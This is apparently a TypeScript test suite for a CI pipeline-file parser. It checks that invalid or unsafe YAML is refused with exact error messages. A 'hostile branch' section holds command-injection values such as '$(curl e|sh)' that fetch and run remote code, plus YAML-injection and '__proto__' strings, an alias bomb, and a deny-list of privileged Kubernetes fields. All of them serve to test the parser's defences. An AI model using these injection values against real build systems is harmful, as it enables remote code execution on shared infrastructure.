// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of the pipeline file, not of this one.
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import {
  isSelected,
  limits,
  PipelineError,
  parsePipeline,
  printPlan,
  selectSteps,
} from '../../../../services/core/pipeline/index.ts';

const file = '.bellows.yaml';
const parse = (text: string, variables = {}) => parsePipeline(text, file, variables)[0];

/** The message that a text is refused with. */
function refusal(text: string): string {
  try {
    parse(text);
  } catch (error) {
    if (error instanceof PipelineError) return error.message;
    throw error;
  }
  return 'accepted';
}

/** A file with one step that has these lines. */
const step = (...lines: string[]) =>
  ['steps:', '  - commands: make', ...lines.map((line) => `    ${line}`)].join('\n');

describe('a pipeline file', () => {
  test('has steps as a list or as a map, with commands as one text or several', () => {
    const list = parse('steps:\n  - name: a\n    commands: [one, two]\n  - commands: three');
    const map = parse('steps:\n  a: {commands: [one, two]}\n  step-1: {commands: three}');
    expect(list.steps).toEqual(map.steps);
    expect(list.steps.map(({ name, commands }) => [name, commands])).toEqual([
      ['a', ['one', 'two']],
      ['step-1', ['three']],
    ]);
    expect(list.workflow).toBe('bellows');
  });

  test('keeps scalars as their author wrote them, and makes no variable of nothing', () => {
    const plan = parse(step('environment: {A: 1.10, B: on, C: 0x10, D: ~, E: "null", F: , G: ""}'));
    expect(plan.steps[0]?.environment).toEqual({ A: '1.10', B: 'on', C: '0x10', E: 'null', G: '' });
  });

  test('may use anchors and merge keys; own keys win, then the first of several merged maps', () => {
    const plan = parse(`steps:
  - &a {name: a, commands: one, image: alpine, failure: ignore}
  - &b {<<: *a, name: b, commands: two}
  - {<<: [*b, *a], name: c}`);
    expect(plan.steps.map(({ name, commands, image, failure }) => [name, commands, image, failure])).toEqual([
      ['a', ['one'], 'alpine', 'ignore'],
      ['b', ['two'], 'alpine', 'ignore'],
      ['c', ['two'], 'alpine', 'ignore'],
    ]);
  });

  test.each([
    ['steps:\n  - name: a\n    comands: x', '3:5: unknown key "comands" in step; did you mean "commands"?'],
    ['steps:\n  a:\n    comand: x', '3:5: unknown key "comand" in step; did you mean "commands"?'],
    ['stepz: []', '1:1: unknown key "stepz" at the top; did you mean "steps"?'],
    [
      'zzzzzz: []',
      '1:1: unknown key "zzzzzz" at the top; expected variables, when, matrix, labels, depends_on, runs_on, concurrency, timeout, cache, clone, skip_clone, workspace, services, steps',
    ],
    ['steps: []\ncommands: a', '2:1: unknown key "commands" at the top; it belongs in step'],
    [step('services: x'), '3:5: unknown key "services" in step; it belongs at the top'],
    ['when: {brnch: x}\nsteps: []', '1:8: unknown key "brnch" in when; did you mean "branch"?'],
    [step('when: {branch: {incude: x}}'), '3:21: unknown key "incude" in branch; did you mean "include"?'],
    [
      step('secrets: [x]'),
      '3:5: "secrets" cannot stand in step; since Woodpecker v3 each is named where it is used: environment: { TOKEN: { from_secret: token } }',
    ],
    ['pipeline: {}', '1:1: "pipeline" cannot stand at the top; since Woodpecker v1 it is `steps`'],
    [
      'branches: main',
      '1:1: "branches" cannot stand at the top; since Woodpecker v1 it is `when: { branch: … }`',
    ],
    [
      'platform: linux/arm64',
      '1:1: "platform" cannot stand at the top; since Woodpecker v1 it is `labels: { platform: linux/arm64 }`',
    ],
    [
      step('group: a'),
      '3:5: "group" cannot stand in step; since Woodpecker v3 it is `depends_on`: steps with the same needs run side by side',
    ],
    [
      step('privileged: true'),
      '3:5: "privileged" is not for any step; no step runs privileged; images are built by `kind: image`',
    ],
    [
      step('volumes: [/a:/b]'),
      '3:5: this repository is not trusted with folders of the machine; an admin may: ./bellows repo set <repository> --trusted-with volumes; what jobs hand on is `cache` or `kind: artifacts`',
    ],
    [
      'services: {db: {image: x, port: 1}}\nsteps: []',
      '1:27: unknown key "port" in service; did you mean "ports"?',
    ],
    [step('when: {path: {includ: x}}'), '3:19: unknown key "includ" in path; did you mean "include"?'],
    [
      step('backend_options: {kubernetes: {serviceAccountName: admin}}'),
      '3:36: "serviceAccountName" cannot stand in kubernetes; whoever runs the platform says what agents are like; a file asks for a pool by `labels`',
    ],
    [
      'steps: [{kind: artifacts, settings: {path: x}}]',
      '1:38: unknown key "path" in the settings of kind artifacts; did you mean "paths"?',
    ],
  ])('refuses %j and says where and what instead', (text, message) => {
    expect(refusal(text)).toBe(`${file}:${message}`);
  });

  test.each([
    ['', '1:1: the file is empty; it needs `steps`'],
    ['steps:', '1:7: steps: expected a list of steps, or steps by name, not nothing'],
    ['steps: 3', '1:8: steps: expected a list of steps, or steps by name, not "3"'],
    ['steps: []', '1:8: steps: expected at least one step'],
    ['- a', '1:1: expected `steps`, not a list'],
    ['steps: [{commands: [a, {b: c}]}]', '1:24: steps[0].commands[1]: expected text, not a map'],
    ['steps: {a: 5}', '1:12: steps.a: expected a step with its keys: image, commands and the like, not "5"'],
    [
      'when: {event: [push, fork]}\nsteps: []',
      '1:22: when.event[1]: expected push, pull_request, pull_request_closed, pull_request_metadata, tag, release, deployment, cron, manual, not "fork"',
    ],
    [
      step('environment: {A: {from_secrets: x}}'),
      '3:23: unknown key "from_secrets" as a value; did you mean "from_secret"?',
    ],
    [
      step('environment: {A: {from_secret: 1st}}'),
      '3:36: from_secret: expected a name of letters, digits, _, . and -, not beginning with a digit',
    ],
    [step('environment: {CI_X: x}'), '3:19: "CI_X": variables that begin with CI_ or BELLOWS_ cannot be set'],
    [step('failure: never'), '3:14: steps[0].failure: expected fail, ignore or cancel, not "never"'],
    [step('detach: maybe'), '3:13: steps[0].detach: expected true or false, not "maybe"'],
    [step('timeout: soon'), '3:14: steps[0].timeout: expected a time such as 30m or 1h30m, not "soon"'],
    ['when: {event: push}', '1:1: steps: missing'],
    ['steps: [{name: a}]', '1:9: step "a" has no commands; write what it runs: commands: make test'],
    [step('entrypoint: x'), '2:5: step "step-0" has no image; a plugin or an entrypoint is of an image'],
    [step('image: x', 'settings: {a: b}'), '4:5: a step has commands or settings, not both'],
    [
      step('kind: image', 'settings: {repo: x}'),
      '2:5: a step of kind image has no commands; its settings say what it does',
    ],
    ['steps: [{kind: image}]', '1:9: step "step-0" has no settings; a step of kind image needs them'],
    ['steps: [{kind: reports, settings: {}}]', '1:35: steps[0].settings: expected junit or coverage'],
    [
      'clone: [{image: alpine}]\nsteps: [{commands: x}]',
      '1:17: "alpine" cannot clone: the agent does it itself, as woodpeckerci/plugin-git does; write skip_clone: true and clone in a step',
    ],
    [
      'services: [{image: x}]\nsteps: [{commands: x}]',
      '1:12: the service has no name; steps reach it by its name: name: database',
    ],
    [
      'services: {a: {ports: [1]}}\nsteps: [{commands: x}]',
      '1:15: service "a" has no image; a service runs in a container',
    ],
    ['services: {a: {image: x, ports: [99999]}}\nsteps: [{commands: x}]', '1:34: there is no port 99999'],
    [
      'when: {matrix: {A: b}}\nsteps: [{commands: x}]',
      '1:8: `matrix` is a condition of steps; a whole entry is left out by leaving it out of the matrix',
    ],
    [step('directory: ../x'), '3:16: the directory "../x" is not below the workspace'],
    [step('directory: /etc'), '3:16: the directory "/etc" is not below the workspace'],
    [step('image: "${X:a}"'), '3:12: "${X:a}" needs numbers, as in ${X:0:8}'],
    [step('when: {branch: "a[b"}'), '3:20: the pattern has a [ without its ]'],
    [
      step('name: "a\\nb"'),
      '3:11: steps[0].name: expected a name of 1 to 100 characters on one line, not "a\\nb"',
    ],
    [
      'steps: {a: {commands: x}, b: {name: a, commands: x, depends_on: []}}',
      '1:30: two steps are called "a"; with depends_on, give each its own name',
    ],
    [
      'steps: {clone: {commands: x}}',
      '1:16: a step cannot be called "clone"; that is the one which fetches the repository',
    ],
  ])('refuses %j', (text, message) => {
    expect(refusal(text)).toBe(`${file}:${message}`);
  });

  test('names a secret where a variable is one, in lower case, and says where', () => {
    const { steps } = parse(step('environment: {A: x, TOKEN: {from_secret: NPM_Token}}'));
    expect(steps[0]?.environment).toEqual({ A: 'x' });
    expect(steps[0]?.secrets).toEqual([
      { variable: 'TOKEN', secret: 'npm_token', position: { line: 3, column: 46 } },
    ]);
  });

  test.each([
    ['commands twice', step('commands: other'), '3:5: the key "commands" stands here twice'],
    ['__proto__', '__proto__: {a: b}', '1:1: the key "__proto__" is not allowed'],
    ['constructor', step('environment: {constructor: a}'), '3:19: the key "constructor" is not allowed'],
    ['a key that is a list', '? [a]\n: b', '1:3: a key has to be plain text'],
    ['an alias without its anchor', 'steps: *x', '1:8: the alias *x has no anchor before it'],
    ['a circle of aliases', 'steps: &a [*a]', '1:8: nested deeper than 32 levels'],
    ['a merge of a text', step('<<: x'), '3:9: `<<` merges a map, or a list of maps'],
    [
      'a second document',
      'steps: []\n---\nsteps: []',
      '2:1: not valid YAML: Source contains multiple documents; please use YAML.parseAllDocuments()',
    ],
    ['a tag', 'steps: !!binary x', '1:8: not valid YAML: Unresolved tag: tag:yaml.org,2002:binary'],
    ['33 levels', `${'['.repeat(34)}${']'.repeat(34)}`, '1:34: nested deeper than 32 levels'],
    ['100000 levels', '['.repeat(100_000), '1:7: nested deeper than 32 levels'],
    ['256 KiB and a byte', '#'.repeat(limits.bytes + 1), '1:1: the file is larger than 256 KiB'],
    ['51 aliases', `a: &a x\nb: [${'*a,'.repeat(51)}]`, '2:155: more than 50 aliases'],
  ])('is refused for %s', (_, text, message) => {
    expect(refusal(text).replace(/:\d+: nested/, ':7: nested')).toBe(
      `${file}:${message}`.replace(/:\d+: nested/, ':7: nested'),
    );
  });

  test('an alias bomb is refused before it grows', () => {
    const levels = Array.from({ length: 7 }, (_, i) => `l${i + 1}: &l${i + 1} [${`*l${i},`.repeat(7)}]`);
    expect(refusal(['l0: &l0 [x]', ...levels].join('\n'))).toMatch(/more than (50 aliases|20000 values)/);
  });

  test('many keys are read in a time that grows with their number', () => {
    const keys = Array.from({ length: 15_000 }, (_, i) => `k${i}: 1`).join('\n');
    expect(refusal(keys)).toMatch(/unknown key|more than/);
  });

  test('nothing that is thrown is anything but the error of the file', () => {
    const yaml = fc.array(
      fc.constantFrom(
        ...'steps: when: - [ ] { } & * ! | > " \' # ? , \n a commands image ${ } << ~ \t é \0'.split(' '),
        '\n',
        ' ',
        '  ',
        ': ',
        '- ',
        '*a',
        '&a ',
      ),
      { maxLength: 60 },
    );
    const text = fc.oneof(
      yaml.map((parts) => parts.join('')),
      fc.string({ unit: 'binary', maxLength: 200 }),
    );
    fc.assert(
      fc.property(text, (given) => {
        try {
          parse(given);
        } catch (error) {
          expect(error).toBeInstanceOf(PipelineError);
          expect((error as PipelineError).line).toBeGreaterThan(0);
          expect((error as PipelineError).column).toBeGreaterThan(0);
        }
      }),
      { numRuns: 500 },
    );
  });

  test('any structure of the right keys is either a plan or the error of the file', () => {
    const value = fc.letrec((tie) => ({
      node: fc.oneof(
        { depthSize: 'small' },
        fc.string({ maxLength: 8 }),
        fc.array(tie('node'), { maxLength: 3 }),
        fc.dictionary(
          fc.constantFrom(
            'steps',
            'when',
            'name',
            'commands',
            'image',
            'environment',
            'branch',
            'event',
            'include',
            'directory',
            'zz',
          ),
          tie('node'),
          { maxKeys: 4 },
        ),
      ),
    })).node;
    fc.assert(
      fc.property(value, (given) => {
        expect(refusal(JSON.stringify({ steps: given }))).toMatch(/^(accepted|\.bellows\.yaml:\d+:\d+: )/);
      }),
    );
  });
});

describe('a hostile branch', () => {
  const corpus = [
    'x"; curl e|sh #',
    '$(curl e|sh)',
    '`curl e|sh`',
    "x'\n  - name: evil\n    commands: evil",
    '${CI_COMMIT_SHA}',
    '*evil {a: b} [c] & ! | >',
    '__proto__',
  ];

  test.each(corpus)('%j stays one value wherever it is used', (branch) => {
    const text = `labels: {branch: "\${CI_COMMIT_BRANCH}"}
depends_on: ["\${CI_COMMIT_BRANCH}"]
concurrency: {limit: 1, group: "\${CI_COMMIT_BRANCH}"}
when: {branch: "\${CI_COMMIT_BRANCH}", evaluate: '"\${CI_COMMIT_BRANCH}" == CI_COMMIT_BRANCH'}
cache: [{name: "\${CI_COMMIT_BRANCH}", paths: a, key: "\${CI_COMMIT_BRANCH}"}]
services:
  db: {image: "\${CI_COMMIT_BRANCH}", environment: {B: "\${CI_COMMIT_BRANCH}"}}
steps:
  - name: a
    image: "img:\${CI_COMMIT_BRANCH}"
    environment: {B: "\${CI_COMMIT_BRANCH}", L: ["\${CI_COMMIT_BRANCH}", x], M: {k: "\${CI_COMMIT_BRANCH}"}}
    commands: ['echo "\${CI_COMMIT_BRANCH}"', 'echo \${CI_COMMIT_BRANCH:0:100}']
    entrypoint: [sh, -c, 'echo "\${CI_COMMIT_BRANCH}"']
    when: {path: "\${CI_COMMIT_BRANCH}/x", matrix: {A: "\${CI_COMMIT_BRANCH}"}}
  - {name: b, image: p, settings: {b: "\${CI_COMMIT_BRANCH}", m: {k: ["\${CI_COMMIT_BRANCH}"]}}}
  - {name: c, kind: artifacts, settings: {paths: "\${CI_COMMIT_BRANCH}"}}
  - {name: d, kind: image, settings: {repo: "\${CI_COMMIT_BRANCH}", build_args: {A: "\${CI_COMMIT_BRANCH}"}}}`;
    const plan = parse(text, { CI_COMMIT_BRANCH: branch });
    const [step, plugin, artifacts, image, ...others] = plan.steps;
    expect(others).toEqual([]);
    expect(plan.labels).toEqual({ branch });
    expect(plan.dependsOn).toEqual([branch]);
    expect(plan.concurrency).toEqual({ limit: 1, group: branch });
    expect(plan.cache).toEqual([{ name: branch, paths: ['a'], key: [branch] }]);
    expect(plan.services).toMatchObject([{ image: branch, environment: { B: branch } }]);
    expect(step?.image).toBe(`img:${branch}`);
    expect(step?.environment).toEqual({
      B: branch,
      L: `${branch},x`,
      M: JSON.stringify({ k: branch }),
      BELLOWS_1: branch,
    });
    expect(step?.commands).toEqual(['echo "${CI_COMMIT_BRANCH}"', 'echo ${BELLOWS_1}']);
    expect(step?.entrypoint).toEqual(['sh', '-c', 'echo "${CI_COMMIT_BRANCH}"']);
    expect(plugin?.environment).toEqual({ PLUGIN_B: branch, PLUGIN_M: JSON.stringify({ k: [branch] }) });
    expect(artifacts).toMatchObject({ settings: { paths: [branch] } });
    expect(image).toMatchObject({ settings: { repo: branch, buildArgs: { A: branch } } });
    // As a pattern it stands for itself, and for nothing else.
    const at = (name: string) =>
      selectSteps(plan, { event: 'push', branch: name, variables: { CI_COMMIT_BRANCH: branch } }).reason ===
      undefined;
    expect(at(branch)).toBe(true);
    expect(at('another')).toBe(false);
    const isMet = (name: string, path: string) =>
      step !== undefined && isSelected(step, { event: 'push', branch, changed: [path], axes: { A: name } });
    expect(isMet(branch, `${branch}/x`)).toBe(true);
    expect(isMet(branch, 'other/x')).toBe(false);
    expect(isMet('another', `${branch}/x`)).toBe(false);
  });
});

describe('what a file asks of Kubernetes (S21)', () => {
  const forbidden =
    /privileged|host(?:Path|Network|PID|IPC|Users)|serviceAccount|tolerations|nodeName|nodeSelector|capabilities|securityContext|volumes/;

  test('is a quantity of a resource, whatever is written or merged into it', () => {
    const key = fc.constantFrom(
      ...'resources requests limits cpu memory privileged securityContext capabilities hostNetwork hostPID hostPath serviceAccountName tolerations nodeName nodeSelector volumes kubernetes'.split(
        ' ',
      ),
    );
    const node = fc.letrec((tie) => ({
      node: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        fc.constantFrom('1', '500m', '2Gi', 'true', '/', 'x'),
        fc.dictionary(key, tie('node'), { maxKeys: 3 }),
        fc.array(tie('node'), { maxLength: 2 }),
      ),
    })).node;
    const tidy = fc.record({
      resources: fc.record({
        limits: fc.dictionary(fc.constantFrom('cpu', 'memory'), fc.constantFrom('1', '2Gi')),
      }),
    });
    fc.assert(
      fc.property(fc.oneof(node, tidy), node, (base, own) => {
        const file = `variables: [&base ${JSON.stringify(base)}]
steps: [{commands: x, backend_options: {kubernetes: {<<: *base, resources: ${JSON.stringify(own)}}}}]`;
        let kubernetes: unknown = {};
        try {
          kubernetes = parse(file).steps[0]?.resources ?? {};
        } catch (error) {
          expect(error).toBeInstanceOf(PipelineError);
        }
        expect(JSON.stringify(kubernetes)).not.toMatch(forbidden);
        for (const quantities of Object.values(kubernetes as object))
          for (const quantity of Object.values(quantities))
            expect(quantity).toMatch(/^\d+(?:\.\d+)?\w{0,2}$/);
      }),
    );
    expect(
      parse(
        step('backend_options: {kubernetes: {resources: {requests: {cpu: 500m}, limits: {memory: 2Gi}}}}'),
      ).steps[0]?.resources,
    ).toEqual({ requests: { cpu: '500m' }, limits: { memory: '2Gi' } });
  });
});

describe('needs', () => {
  const graph = (needs: Record<string, string[]>) =>
    `steps:\n${Object.entries(needs)
      .map(([name, all]) => `  ${name}: {commands: x, depends_on: [${all.join(', ')}]}`)
      .join('\n')}`;

  test('are known steps, and no step waits for itself', () => {
    expect(refusal(graph({ build: [], test: ['biuld'] }))).toBe(
      `${file}:3:36: no step is called "biuld"; did you mean "build"?`,
    );
    expect(refusal(graph({ a: ['c'], b: ['a'], c: ['b'] }))).toBe(
      `${file}:2:32: steps wait for each other in a circle: a → c → b → a`,
    );
    expect(refusal(graph({ a: ['a'] }))).toBe(`${file}:2:32: steps wait for each other in a circle: a → a`);
  });

  test('of any graph are an order, or refused as a circle', () => {
    const names = ['a', 'b', 'c', 'd', 'e'];
    const needs = fc.record(Object.fromEntries(names.map((name) => [name, fc.subarray(names)])));
    fc.assert(
      fc.property(needs, (given) => {
        const message = refusal(graph(given as Record<string, string[]>));
        // Kahn: take what needs nothing that is left, until nothing is.
        let left = [...names];
        for (let before = -1; before !== left.length; ) {
          before = left.length;
          left = left.filter((name) => (given[name] ?? []).some((need) => left.includes(need)));
        }
        expect(message.includes('in a circle')).toBe(left.length > 0);
        expect(message === 'accepted').toBe(left.length === 0);
      }),
    );
  });
});

describe('a matrix', () => {
  test('gives a plan for each entry, with its values in the file and in the steps', () => {
    const plans = parsePipeline(
      `matrix: {GO: [1.21, 1.22], OS: [linux]}
labels: {platform: "\${OS}/amd64"}
steps:
  - {name: test, image: "golang:\${GO}", commands: "go test"}
  - {name: plug, image: p, settings: {go: "\${GO}"}}`,
      file,
    );
    expect(plans.map(({ axes, labels }) => [axes, labels])).toEqual([
      [{ GO: '1.21', OS: 'linux' }, { platform: 'linux/amd64' }],
      [{ GO: '1.22', OS: 'linux' }, { platform: 'linux/amd64' }],
    ]);
    expect(plans[1]?.steps).toMatchObject([
      { image: 'golang:1.22', environment: { GO: '1.22', OS: 'linux' }, kind: 'commands' },
      { environment: { PLUGIN_GO: '1.22' }, kind: 'plugin' },
    ]);
    expect(plans[1]?.steps[1]?.environment).not.toHaveProperty('GO');
  });

  test.each([
    [
      'matrix: {A: [1, 2, 3, 4], B: [1, 2, 3, 4, 5, 6, 7]}',
      '1:30: more than 27 combinations; name those that are wanted in include',
    ],
    [`matrix: {A: [${'1,'.repeat(28)}]}`, '1:13: matrix.A: expected at most 27 values'],
    [
      'matrix: {include: [{A: 1}], B: [1]}',
      '1:32: a matrix has include or variables, not both; name each entry in include',
    ],
    ['matrix: {include: []}', '1:9: the matrix has no entry'],
    ['matrix: {A: [{B: 1}]}', '1:14: expected text'],
    ['matrix: {CI_X: [1]}', '1:10: "CI_X": variables that begin with CI_ or BELLOWS_ cannot be set'],
  ])('is refused: %j', (text, message) => {
    expect(refusal(`${text}\nsteps: [{commands: x}]`)).toBe(`${file}:${message}`);
  });
});

describe('a workflow', () => {
  test('is read whole', () => {
    const plan = parse(
      `variables: [&image "rust:1"]
labels: {platform: linux/arm64, gpu: true, empty: "", woodpecker-ci.org/x: y}
depends_on: [lint, {name: docs, optional: true}]
runs_on: [success, failure]
concurrency: 2
timeout: 1h30m
cache: {models: {paths: [~/.models, data], key: models.lock}}
clone: {git: {image: "woodpeckerci/plugin-git:2", settings: {depth: 0, partial: false, lfs: false, recursive: true, tags: true}}}
workspace: {base: /go, path: src/app}
services:
  db: {image: postgres, ports: [5432, 53/udp]}
steps:
  - {name: build, image: *image, commands: [- a], pull: true}
  - {name: build, image: *image, entrypoint: [/bin/app], failure: cancel, detach: true, timeout: 10m}
`.replace('[- a]', 'a'),
    );
    expect(plan).toMatchObject({
      workflow: 'bellows',
      labels: { platform: 'linux/arm64', gpu: 'true' },
      dependsOn: ['lint', 'docs'],
      optionalNeeds: ['docs'],
      runsOn: ['success', 'failure'],
      concurrency: { group: 'bellows', limit: 2 },
      timeoutMs: 5_400_000,
      cache: [{ name: 'models', paths: ['~/.models', 'data'], key: ['models.lock'] }],
      clone: { skip: false, depth: 0, partial: false, lfs: false, submodules: true, tags: true },
      workspace: { base: '/go', path: 'src/app' },
      services: [{ name: 'db', kind: 'plugin', ports: [5432], detach: true }],
      steps: [
        { name: 'build', pull: true },
        { name: 'build-2', entrypoint: ['/bin/app'], failure: 'cancel', detach: true, timeoutMs: 600_000 },
      ],
    });
    expect(plan.labels).not.toHaveProperty('empty');
  });

  test('may merge lists into lists', () => {
    const { steps } = parse(`variables: {before: &before [a, b], after: &after [d]}
steps:
  - commands: [{<<: *before}, c, {<<: [*after, *before]}]`);
    expect(steps[0]?.commands).toEqual(['a', 'b', 'c', 'd', 'a', 'b']);
  });
});

test('volumes are for repositories that are trusted with them, whatever a matrix says, and are kept as they stand', () => {
  const file = 'steps: [{name: a, image: x, commands: ls, volumes: ["/srv/data:/data:ro", "kept:/kept"]}]';
  const trusted = { CI_REPO_TRUSTED_VOLUMES: 'true' };
  const [plan] = parsePipeline(file, 'x.yaml', trusted);
  expect(plan.steps[0]?.volumes).toEqual(['/srv/data:/data:ro', 'kept:/kept']);
  expect(parsePipeline(printPlan(plan), 'x.yaml', trusted)[0].steps[0]?.volumes).toEqual(
    plan.steps[0]?.volumes,
  );
  const bent = `matrix: {CI_REPO_TRUSTED_VOLUMES: ["true"]}\n${file}`;
  expect(() => parsePipeline(bent, 'x.yaml')).toThrow('cannot be set');
  expect(() => parsePipeline(file, 'x.yaml')).toThrow('not trusted with folders');
  const untrusted = { CI_REPO_TRUSTED_VOLUMES: 'false' };
  expect(() => parsePipeline(file, 'x.yaml', untrusted)).toThrow('not trusted with folders');
  for (const volume of ['data', '/a', '/a:b', '../a:/b', '/a:/b:rw,z', '/a:/b:Z', '-v:/b', '/a,b:/c'])
    expect(() => parsePipeline(file.replace('kept:/kept', volume), 'x.yaml', trusted)).toThrow(
      'expected /folder:/place',
    );
});
